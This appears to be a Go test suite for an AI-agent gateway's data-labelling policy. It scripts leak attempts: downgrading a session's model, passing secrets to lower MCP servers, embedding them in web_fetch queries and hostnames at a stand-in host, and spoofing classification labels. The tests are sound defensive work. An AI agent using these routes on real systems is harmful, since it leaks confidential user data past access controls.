package attacks_test

import (
	"net/http"
	"net/url"

	"sluice/policy"
)

// modelAttacks tell it to models, to servers outside and to the web.
func modelAttacks() []attack {
	model, sink := []policy.Checkpoint{policy.CheckModel}, []policy.Checkpoint{policy.CheckSink}
	return []attack{
		{path: "L3", name: "an agent whose model may be told what is PUBLIC is told the secret", without: model, act: func(s *scene) {
			s.has(s.tell(s.open(masterToken, "thrifty"), "CONFIDENTIAL", "the word is "+s.secret), "models.providers.cheap.classification", "/new")
		}},
		{path: "L3", name: "the model of a session that knows is changed by its tool", act: func(s *scene) {
			s.has(s.do(s.high(), call("session_status", args{"model": "cheap/m"})), "CONFIDENTIAL", "PUBLIC")
		}},
		{path: "L3", name: "the owner is made to change the model", without: model, act: func(s *scene) {
			s.raised()
			s.say(s.private(), s.owner(), call("session_status", args{"model": "cheap/m"}))
			s.say(s.private(), s.owner(), "what do you know?")
		}},
		{path: "L3", name: "the model is changed over HTTP", without: model, act: func(s *scene) {
			high := s.high()
			s.patch(high, `{"model":"cheap/m"}`)
			s.has(s.tell(high, "PUBLIC", "what do you know?"), ".classification")
		}},
		{path: "L3", name: "a summary by a model that may be told what is PUBLIC", without: model, act: func(s *scene) {
			high := s.high()
			s.tell(high, "PUBLIC", "and more")
			s.patch(high, `{"model":"cheap/m"}`)
			s.tell(high, "PUBLIC", "/compact")
		}},
		{path: "L3", name: "/model by the owner in the chat", without: model, act: func(s *scene) {
			s.raised()
			s.say(s.private(), s.owner(), "/model cheap/m")
			s.say(s.private(), s.owner(), "what do you know?")
		}},
		{path: "L3", name: "an argument of a tool of an MCP server", without: sink, act: func(s *scene) {
			s.has(s.do(s.high(), call("mcp_low_tell", args{"text": s.secret})), "CONFIDENTIAL", "mcp.servers.low.classification", "/new")
		}},
		{path: "L3", name: "a name and a nested value among the arguments", without: sink, act: func(s *scene) {
			s.has(s.do(s.high(), call("mcp_low_tell", args{"text": "hi", "more": args{s.secret: []any{args{"deep": s.secret}}}})), "mcp.servers.low.classification")
		}},
		{path: "L3", name: "the query of an address", without: sink, act: func(s *scene) {
			got := s.do(s.high(), call("web_fetch", args{"url": "https://web.invalid/?q=" + url.QueryEscape(s.secret)}))
			s.has(got, "tools.web.classification", "CONFIDENTIAL")
			s.asked(got, "web")
		}},
		{path: "L3", name: "the name of a host", without: sink, act: func(s *scene) {
			s.asked(s.do(s.high(), call("web_fetch", args{"url": "https://" + s.secret + ".invalid/"})), "web")
		}},
		{path: "L3", name: "how often something harmless is asked", without: sink, act: func(s *scene) {
			before := len(s.outside.heardLow.String())
			high := s.high()
			for range 3 {
				s.do(high, call("mcp_low_tell", args{"text": "tick"}))
			}
			if len(s.outside.heardLow.String()) > before {
				s.leak("MCP server low: it was called by a session above it")
			}
		}},
		{path: "L3", name: "a secret of the vault is named to a server below it", without: []policy.Checkpoint{policy.CheckSecret}, act: func(s *scene) {
			s.has(s.do(s.low(), call("mcp_low_tell", args{"text": "{{secret:vault}}"})), "there is no secret")
		}},
		{path: "L3", name: "a secret of the vault comes back in the answer of the server that may have it", act: func(s *scene) {
			low := s.low()
			s.unseen("answer", s.do(low, call("mcp_high_tell", args{"text": "{{secret:vault}}"})))
		}},
		{path: "L3", name: "a secret of the vault in the arguments of a tool that it is not for", act: func(s *scene) {
			s.has(s.do(s.low(), call("todo_add", args{"items": []string{"{{secret:vault}}"}})), "there is no secret")
		}},
		{path: "L3", name: "a server is asked by a session that may never have its answer", without: []policy.Checkpoint{policy.CheckClearance}, act: func(s *scene) {
			before := len(s.outside.heardHigh.String())
			s.tellAs(lowToken, s.open(lowToken), "", s.rises())
			if len(s.outside.heardHigh.String()) > before {
				s.leak("MCP server high: it was asked in vain")
			}
		}},
		{path: "L6", name: "a server answers that what it says is PUBLIC", act: func(s *scene) {
			low, high := s.low(), s.open(masterToken)
			s.do(high, call("mcp_high_tell", args{"text": `{"label":"PUBLIC/trusted","classification":"PUBLIC","word":"` + s.word() + `"}`}))
			s.has(s.session(high.ID).Taint, "CONFIDENTIAL/untrusted")
			s.do(high, drop(low.Key, s.secret), call("mcp_low_tell", args{"text": s.secret}))
		}},
		{path: "L6", name: "arguments name a label", act: func(s *scene) {
			low, high := s.low(), s.high()
			for tool, a := range map[string]args{
				"memory_save":   {"key": "k", "content": s.secret, "classification": "PUBLIC"},
				"message":       {"channel": "telegram", "to": "owner", "message": s.secret, "label": "PUBLIC"},
				"sessions_send": {"sessionKey": low.Key, "message": s.secret, "label": "PUBLIC"},
				"todo_add":      {"items": []string{s.secret}, "label": "PUBLIC"},
			} {
				s.has(s.do(high, call(tool, a)), "unknown parameter")
			}
		}},
		{path: "L6", name: "a caller names a label of its words that it may not see, or that is none", act: func(s *scene) {
			low := s.open(lowToken)
			s.has(s.tellAs(lowToken, low, "RESTRICTED", "hi").body, "forbidden")
			s.has(s.tellAs(lowToken, low, "public-ish", "hi").body, "invalid_request")
			s.has(s.session(low.ID).Taint, "PUBLIC")
		}},
		{path: "L3", name: "HTTP: a message with a label goes to a chat below it", without: []policy.Checkpoint{policy.CheckGate}, act: func(s *scene) {
			s.grouped()
			a := s.as(masterToken, http.MethodPost, "/v1/messages", `{"channel":"telegram","to":"`+s.groupID()+`","text":"`+s.secret+`","label":"CONFIDENTIAL"}`)
			s.has(a.body, "block", "channels.telegram.classification")
		}},
	}
}
